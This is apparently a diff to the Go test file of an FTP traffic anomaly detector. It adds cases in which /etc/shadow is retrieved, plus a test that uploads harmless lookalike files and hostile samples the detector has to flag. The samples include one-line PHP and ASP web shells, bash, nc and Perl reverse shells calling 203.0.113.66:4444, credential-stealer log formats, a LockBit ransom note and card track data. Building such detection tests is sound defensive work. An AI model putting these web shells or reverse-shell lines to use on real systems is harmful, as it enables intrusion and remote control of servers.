@@ -26,6 +26,13 @@ var lookalikes = []struct {
 	{"a copy whose files have moved", "no-sensitive-names", IsUnusual, session1(numberedLines(8, "> RETR safe%d.kdbx\n< 550 no\n"))},
 	{"a search for passwords", "no-sensitive-names", "", session1("> RETR wp-config.php\n< 550 no\n> RETR .htpasswd\n< 550 no\n> RETR .env\n< 550 no\n> RETR configuration.php\n< 150 here\n< 226 done\n> RETR .my.cnf\n< 550 no\n> RETR .git-credentials\n< 550 no")},
 
+	{"a copy of a system", "no-sensitive-names", IsUnusual, func(f *forge.Capture) {
+		t := f.Control().Say(hello).Say(numberedLines(60, "> RETR /etc/file%d\n< 150 here\n< 226 done\n"))
+		move(t, 40000, "RETR /etc/shadow", shadow)
+		t.Say(bye).Peer.Close()
+	}},
+	{"the passwords of a system", "no-sensitive-names", "", moves([2]string{"RETR /etc/shadow", shadow})},
+
 	{"an inventory of printers", "no-scans", IsUnusual, func(f *forge.Capture) { anonymously(f, "anonymous", 20, func(*forge.End) {}) }},
 	{"a search of a network for anonymous servers", "no-scans", "", func(f *forge.Capture) {
 		for i := range 12 {
@@ -126,6 +133,9 @@ var lookalikes = []struct {
 	{"a time that was set", "reply-fits-command", IsNormal, session1("> MFMT 20150215120000 a\n< 253 Date/time changed okay")},
 	{"a time that was set, and a listing in front of it", "reply-fits-command", IsUnusual, session1("> MFMT 20150215120000 a\n< 150 here\n< 213 ok")},
 }
+
+// shadow has the passwords of a system.
+var shadow = "root:$6$Xa9kQ2$" + strings.Repeat("h/B", 28) + ":19000:0:99999:7:::\n"
 
 // digests fills the digests of numbers into a line.
 func digests(n int, line string) string {
@@ -250,6 +260,61 @@ func TestRequests(t *testing.T) {
 	} {
 		if got := forged(t, session1("> "+command+"\n< 550 no")); got.Verdict != NotNormal {
 			t.Errorf("%s: got %v\nwant %s", command, got, NotNormal)
+		}
+	}
+}
+
+// TestContents stores files that look like those of intruders, each twice in a session of its own, and
+// files of intruders.
+func TestContents(t *testing.T) {
+	page := func(text string) string { return "<html><body>" + text + "</body></html>" }
+	settings := "  host: localhost\n  username: app\n  password: x\n"
+	for name, content := range map[string]string{
+		"database.yml":    "development:\n" + settings + "test:\n" + settings + "production:\n" + settings,
+		"application.yml": "spring:\n  datasource:\n    url: jdbc:mysql://localhost/db\n    username: root\n    password: x\n",
+		"mail.html":       page("Open <b>Outlook</b> and click on File."),
+		"keys.txt":        "Close the window: Alt+F4\nConfirm: [Enter]\nNext field: [Tab]\n",
+		"cakes.zip":       "PK\x03\x04\x14\x00\x00\x00\x08\x00cookies/brownies.html",
+		"lists.zip":       "PK\x03\x04\x14\x00\x00\x00\x08\x00SecLists/passwords.txt",
+		"guide.txt":       "The program shows all recovered passwords in a table.",
+		"about.html":      page("<p>Our shop is owned by the family Lovelace.</p>"),
+		"news.html":       page("<p>In 2019 the site was hacked by a group.</p>"),
+		"tags.html":       page(`<noscript><iframe src="https://www.googletagmanager.com/ns.html?id=GTM-7" height="0" width="0" style="display:none;visibility:hidden"></iframe></noscript>`),
+		"upload.html":     page(`<form target="f"></form><iframe name="f" style="display:none"></iframe>`),
+		"cron.php":        `<?php exec("php " . $_SERVER["DOCUMENT_ROOT"] . "/cron.php"); assert(isset($_SERVER["HTTP_HOST"]));`,
+		"ping.php":        `<?php system("ping -c 1 " . escapeshellarg($_GET["host"]));`,
+		"footer.php":      `<?php eval(base64_decode("ZWNobyAxOw=="));`,
+		"wait-for-it.sh":  "#!/bin/bash\n(echo > /dev/tcp/$WAITFORIT_HOST/$WAITFORIT_PORT) >/dev/null 2>&1\n",
+		"run.sh":          "#!/bin/bash -i\necho hello\n",
+		"terminal.py":     "import pty\npty.spawn('/bin/bash')\n",
+		"admin.asp":       `<% Set sh = Server.CreateObject("WScript.Shell") : v = sh.RegRead("HKLM\Software\Shop") %>`,
+		"disk.jsp":        `<% Process p = Runtime.getRuntime().exec("df -h"); %>`,
+		"advice.html":     page("<p>Ransomware: if your files are encrypted, do not pay. Attackers want bitcoin and a visit with the Tor Browser.</p>"),
+		"settlement.csv":  cardNumbers(10),
+	} {
+		got := forged(t, moves([2]string{"STOR " + name, content}, [2]string{"STOR a/" + name, content}))
+		if got.Verdict == NotNormal {
+			t.Errorf("%s: got %v\nwant %s at most", name, got, IsUnusual)
+		}
+	}
+	for name, content := range map[string]string{
+		"log.txt":     "URL: https://bank.example/\r\nUsername: ada\r\nPassword: x\r\nApplication: Chrome\r\n",
+		"log.html":    "URL: https://bank.example/<br>User: ada<br>Password: x<br>",
+		"mail.html":   "<b>Outlook</b><br>Email: ada@example.test",
+		"keys.txt":    "Window: Mail\r\nada[TAB]secret[ENTER]\r\n",
+		"PC7.zip":     "PK\x03\x04\x14\x00\x00\x00\x08\x00Passwords.txt and sizes Autofills/",
+		"a.php":       `<?php assert(@$_GET["c"]);`,
+		"b.php":       `<?php eval(base64_decode($_COOKIE["c"]));`,
+		"c.php":       `<?php system($_SERVER["HTTP_X_CMD"]);`,
+		"shell.sh":    "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1\n",
+		"shell.pl":    `use Socket; connect(S,$a); exec("/bin/sh -i");`,
+		"nc.sh":       "nc 203.0.113.66 4444 -e /bin/sh\n",
+		"a.asp":       `<% CreateObject("WScript.Shell").Exec(Request("c")) %>`,
+		"README.txt":  "Your network is encrypted by LockBit, the fastest ransomware. Pay bitcoin to bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq.",
+		"stripes.txt": "%B4000000000000002^LOVELACE/ADA^2912101000000000?",
+	} {
+		if got := forged(t, moves([2]string{"STOR " + name, content})); got.Verdict != NotNormal {
+			t.Errorf("%s: got %v\nwant %s", name, got, NotNormal)
 		}
 	}
 }
